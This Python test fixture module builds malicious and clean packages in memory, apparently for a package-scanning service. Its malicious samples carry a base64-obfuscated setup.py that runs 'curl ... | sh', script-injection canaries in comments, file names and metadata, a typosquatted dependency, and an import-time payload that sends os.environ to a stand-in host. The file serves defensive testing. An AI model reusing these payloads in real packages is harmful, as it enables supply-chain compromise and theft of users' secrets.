"""Tiny test packages built in memory. Their payloads would be harmful only if run; nothing here
or in the service ever runs them."""

from __future__ import annotations

import base64

from tests.helpers import sdist_bytes, wheel_bytes

PAYLOAD = "import os\nos.system('curl http://203.0.113.9/a | sh')\n"
"""What the encoded blob decodes to: the reviewer must see this text."""


def malicious_sdist(name: str = "evilpkg", version: str = "1.0") -> bytes:
    blob = base64.b64encode(PAYLOAD.encode()).decode()
    setup = (
        "import base64\nfrom setuptools import setup\n"
        f"exec(base64.b64decode('{blob}'))\n"
        f"setup(name='{name}', version='{version}')\n"
    )
    return sdist_bytes({"setup.py": setup}, top=f"{name}-{version}")


def clean_sdist(name: str = "nicepkg", version: str = "1.0") -> bytes:
    return sdist_bytes(
        {
            "setup.py": f"from setuptools import setup\nsetup(name='{name}', version='{version}')\n",
            f"{name}/__init__.py": "def add(a, b):\n    return a + b\n",
        },
        top=f"{name}-{version}",
    )


def clean_wheel(name: str = "nicewheel", version: str = "1.0") -> bytes:
    return wheel_bytes({f"{name}/__init__.py": "VALUE = 1\n"}, name=name, version=version)


SCRIPT_MARK = "capwatch-xss-canary"


def hostile_html_sdist(name: str = "xsspkg", version: str = "1.0") -> bytes:
    """A malicious package whose code, file names and decoded payload carry HTML and script."""
    inner = (
        f"import os\nos.system('curl http://x/a | sh')  # </pre><script>document.title='{SCRIPT_MARK}'</script>\n"
    )
    blob = base64.b64encode(inner.encode()).decode()
    setup = (
        "import base64, os\nfrom setuptools import setup\n"
        f"os.system('curl http://x/b | sh')  # <script>document.title='{SCRIPT_MARK}'</script><img src=x onerror=\"document.title='{SCRIPT_MARK}'\">\n"
        f"exec(base64.b64decode('{blob}'))\n"
        f"setup(name='{name}', version='{version}')\n"
    )
    return sdist_bytes(
        {"setup.py": setup, "<script>alert(1)</script>.py": "x = 1\n"}, top=f"{name}-{version}"
    )


def numbered_sdist(i: int) -> bytes:
    """Distinct small clean packages (for load and paging)."""
    return clean_sdist(name=f"pkg{i}", version=f"1.{i}")


RELEASE_NAME = "tidyslug"
DRIFT_MARK = "capwatch-drift-canary"
IMPORT_PAYLOAD = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://telemetry.example.invalid/i', "
    "data=repr(dict(os.environ)).encode())\n"
)
"""Added to ``__init__.py`` by a hijacked release: reaches the network at import (never run)."""


def release_sdist(version: str, *, payload: bool = False, name: str = RELEASE_NAME) -> bytes:
    """A release of a small honest project; with ``payload``, the same project with an
    import-time payload, a new dependency, another author address and a summary carrying HTML."""
    email = "owner@mail.example.invalid" if payload else "ada@tidy.example"
    summary = (f"Tidy slugs <script>document.title='{DRIFT_MARK}'</script>" if payload
               else "Tidy slugs for URLs")
    requires = "Requires-Dist: text-unidecode>=1.3\n" + (
        "Requires-Dist: reqeusts\n" if payload else "")
    info = (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {summary}\n"
        f"Home-page: https://tidy.example/{name}\nAuthor: Ada\nAuthor-email: {email}\n"
        f"License: MIT\nRequires-Python: >=3.8\n{requires}\n# {name}\n\nMakes tidy slugs.\n"
    )
    init = (
        "import re\n\n__all__ = ['slug']\n\n\n"
        "def slug(text, separator='-'):\n"
        "    return re.sub(r'[^a-z0-9]+', separator, text.lower()).strip(separator)\n"
    )
    if payload:
        init += "\n" + IMPORT_PAYLOAD
    setup = (
        "from setuptools import setup\n\n"
        f"setup(name='{name}', version='{version}', packages=['{name.replace('-', '_')}'],\n"
        "      install_requires=['text-unidecode>=1.3'])\n"
    )
    return sdist_bytes(
        {"PKG-INFO": info, "setup.py": setup, f"{name.replace('-', '_')}/__init__.py": init,
         "README.md": f"# {name}\n"},
        top=f"{name}-{version}",
    )
